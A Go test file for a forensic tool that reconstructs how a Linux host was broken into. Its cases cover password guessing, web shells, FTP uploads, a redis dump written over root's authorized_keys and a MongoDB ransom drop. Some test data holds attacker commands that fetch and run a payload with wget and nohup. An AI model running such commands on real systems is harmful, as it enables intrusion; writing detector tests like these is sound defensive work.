package story

import (
	"slices"
	"testing"
	"time"

	"telltale/detect"
	"telltale/evidence"
)

// twin is a second account with uid 0, found in passwd, which was written then.
func twin(when string) detect.Finding {
	return detect.Finding{Detection: "D45", What: detect.AccountOdd, Title: "account toor2: a second account with uid 0", Account: "toor2", As: "0", Path: "/etc/passwd", Level: detect.High, Rung: evidence.Effect, First: at(when), Last: at(when), For: quote("/etc/passwd")}
}

func with(f detect.Finding, change func(*detect.Finding)) detect.Finding {
	if f.Access != nil {
		a := *f.Access
		a.Sessions = slices.Clone(a.Sessions)
		f.Access = &a
	}
	change(&f)
	return f
}

// script is a script of the site that one address asks for, at these times; nothing else speaks against it.
func script(path, owner, source, born string, asked ...string) detect.Finding {
	f := detect.Finding{Detection: "D54", What: detect.WebScript, Title: "the script " + path, Level: detect.Info, Rung: evidence.Effect, Path: path, Account: owner, Source: source, Sources: []string{source}, Service: "web",
		First: at(born), For: quote("/var/log/apache2/access.log")}
	for _, t := range asked {
		f.When = append(f.When, at(t))
	}
	return f
}

func dropped(path, when string, l detect.Level) detect.Finding {
	return detect.Finding{Detection: "D64", What: detect.OddFile, Title: path + " hides", Path: path, Account: "www-data", Level: l, Rung: evidence.Effect, First: at(when), Last: at(when), For: quote(path)}
}

func crontab(as, when string) detect.Finding {
	return with(cron("/var/spool/cron/crontabs/"+as, "/tmp/.x/y", detect.Medium, when), func(f *detect.Finding) { f.As = as })
}

func uploaded(service, account, method string) detect.Finding {
	return detect.Finding{Detection: "D28", What: detect.Upload, Title: "wrote", Path: "/var/www/html/x.php", Account: account, Source: "203.0.113.6", Service: service, Method: method, First: at("02:59:00"), Last: at("02:59:00"), Rung: evidence.Accepted, For: quote("/var/log/ftp.log")}
}

func installed(from, to string) detect.Finding {
	return detect.Finding{Detection: "D33", What: detect.Installed, Title: "package x was installed", Path: "x", Detail: "1.0", Service: "dpkg", Rung: evidence.Effect, First: at(from), Last: at(to), For: quote("/var/log/dpkg.log")}
}

func mails(source string) detect.Finding {
	return detect.Finding{Detection: "D73", What: detect.MailRun, Title: "400 mails", Level: detect.High, Rung: evidence.Effect, Account: "bob", Count: 400, Sources: []string{source}, First: at("03:00:00"), Last: at("03:05:00"), Mechanism: "sasl", For: quote("/var/log/mail.log")}
}

// mailed is a run of mail that the web server's account handed in at these times.
func mailed(when ...string) detect.Finding {
	f := detect.Finding{Detection: "D73", What: detect.MailRun, Title: "400 mails", Level: detect.High, Rung: evidence.Effect, Account: "www-data", Count: 400, First: at(when[0]), Last: at(when[len(when)-1]), Mechanism: "local", For: quote("/var/log/mail.log")}
	for _, t := range when {
		f.When = append(f.When, at(t))
	}
	return f
}

// words are those of a child of the web server, which has no client and no exact time.
func words(when string, step time.Duration) detect.Finding {
	t := at(when)
	t.Step = step
	return detect.Finding{Detection: "D21", What: detect.WebExecution, Title: "child", Level: detect.High, Rung: evidence.Effect, First: t, Last: t, Detail: "chmod:", For: quote("/var/log/apache2/error.log")}
}

func silent(when string) detect.Finding {
	return detect.Finding{Detection: "D58", What: detect.LogSilent, Title: "auth.log stops", Level: detect.Medium, Rung: evidence.Witnessed, Path: "/var/log/auth.log", First: at(when), Last: at(when), For: quote("/var/log/auth.log")}
}

func scan(account, when string) detect.Finding {
	return detect.Finding{Detection: "D72", What: detect.Scanner, Title: "scans", Level: detect.High, Rung: evidence.Effect, Mechanism: "scan", Account: account, First: at(when), Last: at(when), Count: 900, For: quote("/var/log/kern.log")}
}

func typed(what string, l detect.Level) detect.Finding {
	return detect.Finding{Detection: "D36", What: detect.Command, Mechanism: "history", Title: "bob typed", Account: "bob", Runs: what, Level: l, Rung: evidence.Effect, Path: "/home/bob/.bash_history", Count: 1, When: []evidence.Time{at("03:10:01")}, For: quote("/home/bob/.bash_history")}
}

// ransom is a demand that somebody left in the place of what he dropped.
func ransom(source string, l detect.Level) detect.Finding {
	return detect.Finding{Detection: "D76", What: detect.Destroyed, Title: "2 databases were dropped, and a demand was left in their place", Service: "mongodb", Source: source, Level: l, Rung: evidence.Effect, Count: 2, First: at("03:00:00"), Last: at("03:00:05"), For: quote("/var/log/mongodb/mongod.log")}
}

// TestVectors has for each way in what shows it, and beside it what looks like it and is none.
func TestVectors(t *testing.T) {
	amy := login(detect.Login, "amy", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
	foreign := login(detect.Login, "bob", "203.0.113.6", "password", "03:00:00", "03:10:00", detect.Access{NewAddress: true})
	smtp := with(foreign, func(f *detect.Finding) { f.Service = "smtp" })
	office := with(login(detect.Login, "bob", "198.51.100.9", "password", "03:00:00", "03:10:00", detect.Access{FirstOfAccount: true}), func(f *detect.Finding) {
		f.First, f.Access.Sessions = at("00:00:01"), append([]detect.Span{{Start: at("00:00:01"), End: at("00:05:00")}}, detect.Span{Start: at("15:00:00"), End: at("15:10:00")})
	})
	usual := with(office, func(f *detect.Finding) { f.Access.FirstOfAccount = false })
	siteLogin := detect.Finding{Detection: "D24", What: detect.WebLogin, Title: "entered", Path: "/wp-login.php", Source: "203.0.113.6", Count: 20, First: at("02:58:00"), Rung: evidence.Accepted, For: quote("/var/log/apache2/access.log")}
	changed := with(script("/var/www/html/x.php", "www-data", "203.0.113.6", "02:59:00", "03:00:00"), func(f *detect.Finding) {
		f.What, f.Level, f.Mechanism = detect.WebUpload, detect.Critical, "web-admin"
	})
	shell := script("/var/www/html/x.php", "bob", "203.0.113.6", "02:59:00", "03:00:00")
	effects := []detect.Finding{dropped("/tmp/.x/y", "03:00:02", detect.High), crontab("www-data", "03:00:05")}
	dump := detect.Finding{Detection: "D32", What: detect.DatabaseDid, Title: "redis wrote", Detail: "wrote its dump over /root/.ssh/authorized_keys", Service: "redis", Path: "/root/.ssh/authorized_keys", Level: detect.Critical, Rung: evidence.Effect,
		First: at("02:00:00"), Last: at("02:00:00"), For: quote("/root/.ssh/authorized_keys")}
	open := detect.Finding{Detection: "D32", What: detect.Exposed, Title: "mongodb asks nobody who he is", Service: "mongodb", Level: detect.Medium, Rung: evidence.Accepted, Count: 3, First: at("00:00:00"), Last: at("03:00:00"), For: quote("/var/log/mongodb/mongod.log")}
	for _, tc := range []struct {
		name, vector, account string
		sources               []string
		findings              []detect.Finding
	}{
		{"a campaign against the account", "ssh-password-guessed", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, with(foreign, func(f *detect.Finding) { f.Access.RecentTries, f.Access.RecentAddresses = 9, 6 }), sudo("bob", "03:01:00"), twin("03:05:00")}},
		{"no campaign", "ssh-password-known", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, foreign, sudo("bob", "03:01:00"), twin("03:05:00")}},
		{"only wtmp, and the account uses keys", "ssh-key", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, byKey("bob", "198.51.100.9", "SHA256:own", "00:10:00", "00:20:00"), with(foreign, func(f *detect.Finding) { f.Method = "record" }), sudo("bob", "03:01:00"), twin("03:05:00")}},
		{"from the office, on another day than usual", "", "", nil, []detect.Finding{amy, office, sudo("bob", "15:01:00"), twin("15:05:00")}},
		{"from where he always comes, and the log stops meanwhile", "insider", "bob", []string{"198.51.100.9"}, []detect.Finding{amy, usual, sudo("bob", "15:01:00"), twin("15:05:00"), silent("15:04:00")}},
		{"from where he always comes, and no log was touched", "", "", nil, []detect.Finding{amy, usual, sudo("bob", "15:01:00"), twin("15:05:00")}},
		{"from where he always comes, and a log stops on another day", "", "", nil, []detect.Finding{amy, usual, sudo("bob", "15:01:00"), twin("15:05:00"), silent("05:04:00")}},
		{"a mail account from elsewhere", "mail-account", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, smtp, mails("203.0.113.6")}},
		{"a circular from home, by one's own mail program", "", "", nil, []detect.Finding{amy, smtp, with(mails("203.0.113.6"), func(f *detect.Finding) { f.Count = 60 })}},
		{"a newsletter from the usual place", "", "", nil, []detect.Finding{amy, with(smtp, func(f *detect.Finding) { f.Access.NewAddress = false }), mails("203.0.113.6")}},
		{"a mail login gives no shell", "unknown", "", []string{}, []detect.Finding{amy, smtp, twin("03:05:00"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.Critical, "03:02:00")}},
		{"a script's requests made things, nobody knows how it came", "unknown", "bob", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell}, effects...)},
		{"the site's own page, older than its first request", "", "", nil, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.First = evidence.Unix(1600000000, 0, 1) }), crontab("www-data", "03:00:05")}},
		{"one crontab behind a request may be chance", "", "", nil, []detect.Finding{amy, shell, crontab("www-data", "03:00:05")}},
		{"a crontab, and a shell's words at the same time", "web-exploit", "www-data", []string{"203.0.113.6"}, []detect.Finding{amy, shell, crontab("www-data", "03:00:05"), words("02:59:30", time.Hour)}},
		{"a shell's words of another time", "", "", nil, []detect.Finding{amy, shell, crontab("www-data", "03:00:05"), words("01:00:00", time.Minute)}},
		{"an odd script that sends mail", "unknown", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.Level = detect.Medium }), mailed("03:00:01", "03:00:02", "03:00:09")}},
		{"a page of the site that sends mail", "", "", nil, []detect.Finding{amy, shell, mailed("03:00:01", "03:00:02", "03:00:09")}},
		{"an odd script, and mail at all times", "", "", nil, []detect.Finding{amy, with(shell, func(f *detect.Finding) { f.Level = detect.Medium }), mailed("03:00:01", "04:00:02", "05:00:09")}},
		{"an administrator was there when a script made things", "unknown", "bob", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, login(detect.Login, "eve", "203.0.113.77", "publickey", "02:50:00", "03:10:00", detect.Access{NewAddress: true}), sudo("eve", "02:51:00")}, effects...)},
		{"a scan alone says not how", "", "", nil, []detect.Finding{amy, scan("bob", "03:02:00")}},
		{"a scan and a hidden program", "unknown", "", []string{}, []detect.Finding{amy, scan("bob", "03:02:00"), dropped("/tmp/.x/y", "03:00:02", detect.High)}},
		{"by ftp", "ftp-password", "bob", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("vsftpd", "bob", "")}, effects...)},
		{"by anonymous ftp", "open-share", "ftp", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("vsftpd", "ftp", "anonymous")}, effects...)},
		{"by an open share", "open-share", "nobody", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("smbd", "nobody", "")}, effects...)},
		{"copied by a daemon for a client that never logged in", "daemon-exploit", "nobody", []string{"203.0.113.6"}, append([]detect.Finding{amy, shell, uploaded("proftpd", "nobody", "none")}, effects...)},
		{"by the site's own administration", "web-admin", "www-data", []string{"203.0.113.6"}, append([]detect.Finding{amy, changed, siteLogin}, effects...)},
		{"by a package's script, whoever installed it", "supply-chain", "root", []string{}, []detect.Finding{login(detect.Login, "amy", "203.0.113.77", "publickey", "02:50:00", "03:10:00", detect.Access{NewAddress: true}), sudo("amy", "02:59:00"), installed("02:59:00", "02:59:09"), cron("/etc/cron.d/x", "/var/tmp/.x/y", detect.High, "02:59:05")}},
		{"a history that fetches from the login's address", "ssh-password-known", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, foreign, typed("wget http://203.0.113.6/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
		{"a history written when the session ended", "ssh-password-known", "bob", []string{"203.0.113.6"}, []detect.Finding{amy, foreign, typed("wget http://192.0.2.1/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
		{"a history that another session wrote", "", "", nil, []detect.Finding{amy, with(foreign, func(f *detect.Finding) { f.Access.Sessions[0].End = at("05:00:00") }), typed("wget http://192.0.2.1/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
		{"a redis dump that was saved once more behind the login", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, with(dump, func(f *detect.Finding) { f.First, f.Last = at("03:00:00"), at("03:00:00") }), key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "03:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
		{"a redis dump with a key that was used", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, dump, key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "02:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
		{"a demand in the place of data", "database-exposed", "", []string{"203.0.113.6"}, []detect.Finding{amy, ransom("203.0.113.6", detect.Critical), open}},
		{"a demand from beside an administrator's network", "database-exposed", "", []string{"198.51.100.77"}, []detect.Finding{amy, ransom("198.51.100.77", detect.Critical)}},
		{"a demand from within", "unknown", "", []string{}, []detect.Finding{amy, ransom("10.0.0.7", detect.Critical)}},
		{"a demand, and nobody knows whose", "unknown", "", []string{}, []detect.Finding{amy, ransom("", detect.Critical)}},
		{"a name like a demand's, and nothing was dropped", "", "", nil, []detect.Finding{amy, ransom("203.0.113.6", detect.Medium), open}},
		{"a database that stands open", "", "", nil, []detect.Finding{amy, open}},
		{"a database's password was guessed", "database-exposed", "postgres", []string{"203.0.113.6"}, []detect.Finding{amy, with(guessed("03:00:00", "03:10:00"), func(f *detect.Finding) { f.Service, f.Account = "postgresql", "postgres" })}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := Build(t.Context(), tc.findings, full())
			check(t, &s)
			if tc.vector == "" {
				if len(s.Entry) > 0 || len(s.Persistence) > 0 {
					t.Errorf("accused without a reason: %+v %+v", s.Entry, s.Persistence)
				}
				return
			}
			if len(s.Entry) != 1 || s.Entry[0].Vector != tc.vector || s.Entry[0].Account != tc.account || !slices.Equal(s.Entry[0].Sources, tc.sources) {
				t.Errorf("entry %+v", s.Entry)
			}
			if tc.vector == "daemon-exploit" && (len(s.Entry) == 0 || !slices.Contains(s.Entry[0].CVE, "CVE-2015-3306")) {
				t.Errorf("the weakness is not named: %+v", s.Entry)
			}
			if tc.vector == "supply-chain" && len(s.Actors) > 0 {
				t.Errorf("who installed the package is accused: %+v", s.Actors)
			}
		})
	}
}
